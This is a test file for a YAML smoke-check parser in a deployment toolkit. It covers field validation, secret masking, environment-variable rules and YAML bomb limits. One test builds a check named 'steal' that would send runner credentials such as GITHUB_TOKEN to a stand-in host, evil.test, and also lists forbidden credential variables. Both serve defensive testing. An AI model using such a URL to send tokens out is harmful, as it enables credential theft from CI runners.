import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import { UserError, maskSecrets } from '@swiss-deploy/kit';
import { parseChecks, parseStatusRange, type CheckDefaults } from '../../../packages/smoke/checks-file';
import type { Check } from '../../../packages/smoke/types';
import { repoRoot } from '../../support/versions';
import { aliasBomb, deepNesting } from '../../support/yaml-bombs';

const fixtures = path.join(repoRoot, 'test', 'fixtures', 'smoke');
const defaults: CheckDefaults = {
  policy: { timeoutMs: 10_000, intervalMs: 2000, retries: 10, consecutiveSuccesses: 1 },
  headers: {},
  followRedirects: true,
  maxRedirects: 5,
};

function fixture(name: string) {
  return { text: readFileSync(path.join(fixtures, name), 'utf8'), file: `test/fixtures/smoke/${name}` };
}

function failure(run: () => unknown): UserError {
  try {
    run();
  } catch (error) {
    if (error instanceof UserError) return error;
    throw error;
  }
  throw new Error('expected a UserError');
}

describe('parseChecks', () => {
  it('reads a checks file with defaults, every expectation and a JSON body', () => {
    const checks = parseChecks(fixture('checks.yml'), defaults, { SMOKE_TOKEN: 'tok-123456' });
    expect(checks.map((c) => c.name)).toEqual(['health', 'version', 'create order']);
    const [health, version, order] = checks as [Check, Check, Check];
    expect(health).toMatchObject({
      method: 'GET',
      target: '/healthz',
      headers: { 'X-Suite': 'swiss-deploy' },
      policy: { timeoutMs: 3000, retries: 2, intervalMs: 100, consecutiveSuccesses: 1 },
      followRedirects: true,
      maxRedirects: 5,
      location: { file: 'test/fixtures/smoke/checks.yml', line: 10, column: 5 },
    });
    expect(health.expect.status).toEqual([{ min: 200, max: 200, text: '200' }]);
    expect(health.expect.bodyContains).toEqual(['ok']);

    expect(version.headers).toEqual({ 'X-Suite': 'swiss-deploy', Authorization: 'Bearer tok-123456' });
    expect(version.policy.consecutiveSuccesses).toBe(2);
    expect(version.expect.status.map((s) => s.text)).toEqual(['200', '2xx', '200-204']);
    expect(version.expect.json).toEqual([
      { path: '$.version', equals: '1.2.3' },
      { path: '$.features[0]', equals: 'blue-green' },
      { path: '$.ready', equals: true },
    ]);
    expect(version.expect.headers).toEqual([
      { name: 'content-type', matches: /^application\/json/ },
      { name: 'x-debug', present: false },
    ]);
    expect(version.expect.maxLatencyMs).toBe(500);

    expect(order).toMatchObject({
      method: 'POST',
      target: '/orders',
      body: '{"item":"fondue","quantity":2}',
    });
    expect(order.headers['Content-Type']).toBe('application/json');
    expect(order.expect.bodyMatches).toEqual([/created/i]);
  });

  it('masks credentials in headers, the whole value and the token after its scheme', () => {
    parseChecks(fixture('checks.yml'), defaults, { SMOKE_TOKEN: 'tok-123456' });
    expect(maskSecrets('sent Bearer tok-123456')).toBe('sent ***');
    expect(maskSecrets('token tok-123456')).toBe('token ***');
  });

  it('reports a malformed file with its line number, as an annotation on that line', () => {
    const error = failure(() => parseChecks(fixture('malformed.yml.txt'), defaults, {}));
    expect(error.message).toMatch(/^test\/fixtures\/smoke\/malformed\.yml\.txt, line 6: /);
    expect(error.location).toEqual({
      file: 'test/fixtures/smoke/malformed.yml.txt',
      line: 6,
      column: expect.any(Number),
    });
    expect(error.hint).toContain('no request was sent');
  });

  it('names every unknown field with the closest known one, and its line', () => {
    const error = failure(() => parseChecks(fixture('unknown-field.yml'), defaults, {}));
    expect(error.message).toBe(
      [
        'test/fixtures/smoke/unknown-field.yml has 3 problems:',
        '  - line 5: unknown field "staus" in "expect" of check 1: did you mean "status"?',
        '  - line 7: unknown field "pathh" in check 2: did you mean "path"?',
        '  - line 8: unknown field "status" in check 2: "status" is an expectation: put it under "expect"',
      ].join('\n'),
    );
    expect(error.location).toMatchObject({ line: 5, column: 7 });
  });

  it('lists the known fields when nothing is close', () => {
    const error = failure(() => parseChecks({ text: '- path: /\n  frobnicate: 1\n' }, defaults, {}));
    expect(error.message).toBe(
      'The checks input, line 2: unknown field "frobnicate" in check 1; known fields: name, method, path, url, headers, body, expect, timeout, retries, interval, consecutive-successes, follow-redirects, max-redirects.',
    );
    expect(error.location).toBeUndefined();
  });

  it('says which value is of the wrong kind, on which line', () => {
    const text = [
      'checks:',
      '  - path: /a',
      '    timeout: 10',
      '    retries: many',
      '    method: FETCH',
      '    expect:',
      '      status: 2xy',
      '      body-matches: "(unclosed"',
      '      json: { "$.a..b": 1 }',
      '  - path: relative',
      '  - path: /a',
      '',
    ].join('\n');
    const error = failure(() => parseChecks({ text }, defaults, {}));
    expect(error.message.split('\n').slice(1)).toEqual([
      '  - line 3: "timeout" is 10: expected a duration such as 500ms, 10s or 2m (add a unit, e.g. 10s)',
      '  - line 4: "retries" is "many": expected a whole number from 0 to 1000',
      '  - line 5: "method" is "FETCH": expected one of GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS',
      '  - line 7: "2xy" is not a status: use a code (200), a class (2xx) or a range (200-299) from 100 to 599',
      expect.stringMatching(/^ {2}- line 8: "\(unclosed" is not a valid regular expression: /),
      '  - line 9: cannot read "..b" in JSON path "$.a..b"',
      '  - line 10: "path" is "relative": it must start with /',
      '  - line 11: check name "GET /a" is used twice (first on line 2): names must be unique',
    ]);
  });

  it('refuses a declared environment reference that is not set, naming the variable', () => {
    const text =
      'env: [NOPE_TOKEN]\nchecks:\n  - path: /\n    headers:\n      Authorization: Bearer ${NOPE_TOKEN}\n';
    const error = failure(() => parseChecks({ text }, defaults, {}));
    expect(error.message).toBe(
      'The checks input, line 5: "headers.Authorization" uses ${NOPE_TOKEN}, but the environment variable NOPE_TOKEN is not set.',
    );
  });

  it('keeps $${ as a literal ${', () => {
    const [check] = parseChecks({ text: '- path: /a$${b}\n' }, defaults, {});
    expect(check?.target).toBe('/a${b}');
  });

  it('accepts a bare list, defaults to GET, 2xx/3xx and the inherited policy', () => {
    const [check] = parseChecks({ text: '- url: https://example.test/health\n' }, defaults, {});
    expect(check).toMatchObject({
      name: 'GET https://example.test/health',
      method: 'GET',
      target: 'https://example.test/health',
      policy: defaults.policy,
    });
    expect(check?.expect.status).toEqual([{ min: 200, max: 399, text: '2xx or 3xx' }]);
  });

  it('refuses an empty file, a body on GET, and path together with url', () => {
    expect(failure(() => parseChecks({ text: '' }, defaults, {})).message).toContain('there are no checks');
    expect(failure(() => parseChecks({ text: '- path: /\n  body: x\n' }, defaults, {})).message).toContain(
      'a GET check cannot send a body',
    );
    expect(
      failure(() => parseChecks({ text: '- path: /\n  url: http://x.test/\n' }, defaults, {})).message,
    ).toContain('a check has "path" or "url", not both');
  });

  it('refuses a duplicate key, as YAML does not allow it', () => {
    const error = failure(() => parseChecks({ text: '- path: /a\n  path: /b\n' }, defaults, {}));
    expect(error.message).toMatch(/^The checks input, line 2: Map keys must be unique/);
  });
});

describe('environment references in a checks file', () => {
  const env = {
    SMOKE_TOKEN: 'tok-declared-123456',
    OTHER_SECRET: 'other-secret-value',
    INPUT_KUBECONFIG: 'kubeconfig-secret-text',
    ACTIONS_RUNTIME_TOKEN: 'runtime-token-value',
    GITHUB_TOKEN: 'ghs_github_token_value',
  };

  it('expands only the names the file declares in "env", from the step environment', () => {
    const text = [
      'env: [SMOKE_TOKEN]',
      'checks:',
      '  - name: health',
      '    url: https://example.test/${SMOKE_TOKEN}',
      '    headers: { X-Token: "${SMOKE_TOKEN}" }',
      '',
    ].join('\n');
    const [check] = parseChecks({ text }, defaults, env);
    expect(check?.target).toBe('https://example.test/tok-declared-123456');
    expect(check?.headers['X-Token']).toBe('tok-declared-123456');
  });

  it('refuses a reference to an undeclared name, naming the check, the field and the name', () => {
    const text = [
      'env: [SMOKE_TOKEN]',
      'checks:',
      '  - name: leak',
      '    method: POST',
      '    path: /p',
      '    body: "${OTHER_SECRET}"',
      '',
    ].join('\n');
    const error = failure(() => parseChecks({ text }, defaults, env));
    expect(error.message).toBe(
      'The checks input, line 6: check "leak" "body" uses ${OTHER_SECRET}, which the file does not declare: add OTHER_SECRET to its "env" list.',
    );
    expect(error.message).not.toContain('other-secret-value');
  });

  it('refuses every reference in a bare list of checks, which cannot declare "env"', () => {
    const error = failure(() =>
      parseChecks({ text: '- url: https://x.test/${SMOKE_TOKEN}\n' }, defaults, env),
    );
    expect(error.message).toContain(
      'check 1 "url" uses ${SMOKE_TOKEN}, which the file does not declare: add SMOKE_TOKEN to its "env" list',
    );
  });

  it.each(['INPUT_KUBECONFIG', 'ACTIONS_RUNTIME_TOKEN', 'RUNNER_TEMP', 'GITHUB_TOKEN', 'input_password'])(
    'refuses the runner credential or step input %s, declared or referenced',
    (name) => {
      const declared = failure(() =>
        parseChecks({ text: `env: [${name}]\nchecks:\n  - path: /\n` }, defaults, env),
      );
      expect(declared.message).toBe(
        `The checks input, line 1: "env" declares \${${name}}, which a checks file may not read: INPUT_*, ACTIONS_*, RUNNER_* and GITHUB_TOKEN hold the step's inputs and the runner's credentials.`,
      );
      const referenced = failure(() =>
        parseChecks(
          { text: `checks:\n  - name: steal\n    url: https://evil.test/?t=\${${name}}\n` },
          defaults,
          env,
        ),
      );
      expect(referenced.message).toContain(
        `check "steal" "url" uses \${${name}}, which a checks file may not read`,
      );
      for (const value of Object.values(env)) {
        expect(declared.message).not.toContain(value);
        expect(referenced.message).not.toContain(value);
      }
    },
  );

  it('masks every expanded value for the rest of the run, wherever it was used', () => {
    const text = [
      'env: [PATH_PART, BODY_PART]',
      'checks:',
      '  - method: POST',
      '    path: /items/${PATH_PART}',
      '    body: "secret=${BODY_PART}"',
      '',
    ].join('\n');
    parseChecks({ text }, defaults, { PATH_PART: 'path-part-value', BODY_PART: 'body-part-value' });
    expect(maskSecrets('GET /items/path-part-value with secret=body-part-value')).toBe(
      'GET /items/*** with secret=***',
    );
  });

  it('refuses an "env" that is not a list of names', () => {
    expect(
      failure(() => parseChecks({ text: 'env: SMOKE_TOKEN\nchecks: [{ path: / }]\n' }, defaults, env))
        .message,
    ).toContain('"env" must be a list of environment variable names');
    expect(
      failure(() => parseChecks({ text: 'env: [not-a-name]\nchecks: [{ path: / }]\n' }, defaults, env))
        .message,
    ).toContain('"env" lists "not-a-name", which is not an environment variable name');
  });
});

describe('credentials in a check URL', () => {
  it('become a masked Basic Authorization header and leave the URL and the name', () => {
    const [check] = parseChecks(
      { text: '- url: http://ops:pa%40ss-word-1@example.test/health\n' },
      defaults,
      {},
    );
    expect(check?.target).toBe('http://example.test/health');
    expect(check?.name).toBe('GET http://example.test/health');
    expect(check?.headers.Authorization).toBe(`Basic ${Buffer.from('ops:pa@ss-word-1').toString('base64')}`);
    expect(maskSecrets(`pa@ss-word-1 ${check?.headers.Authorization}`)).toBe('*** ***');
  });

  it('give way to an Authorization header the check sets itself, as in curl', () => {
    const text =
      '- url: http://ops:pass-word-2@example.test/\n  headers: { Authorization: Bearer own-token-1 }\n';
    const [check] = parseChecks({ text }, defaults, {});
    expect(check?.headers).toEqual({ Authorization: 'Bearer own-token-1' });
    expect(check?.target).toBe('http://example.test/');
  });
});

describe('parseStatusRange', () => {
  it('reads codes, classes and ranges', () => {
    expect(parseStatusRange('204')).toEqual({ min: 204, max: 204, text: '204' });
    expect(parseStatusRange('3XX')).toEqual({ min: 300, max: 399, text: '3xx' });
    expect(parseStatusRange('200 - 299')).toEqual({ min: 200, max: 299, text: '200-299' });
    expect(parseStatusRange('299-200')).toEqual(expect.stringContaining('is not a status'));
    expect(parseStatusRange('600')).toEqual(expect.stringContaining('is not a status'));
  });

  it('refuses an alias bomb in a checks file as the alias limit, on its line', () => {
    const error = failure(() =>
      parseChecks({ text: aliasBomb('checks: []\n'), file: 'smoke/checks.yml' }, defaults, {}),
    );
    expect(error.message).toMatch(/^smoke\/checks\.yml, line 1: it expands more than 100 aliases, the limit/);
    expect(error.location).toEqual({ file: 'smoke/checks.yml', line: 1 });
  });

  it('refuses a checks file nested deeper than the parser follows as the nesting limit', () => {
    const error = failure(() => parseChecks({ text: deepNesting() }, defaults, {}));
    expect(error.message).toMatch(/^The checks input, line 1: it nests deeper than the parser can follow/);
  });
});
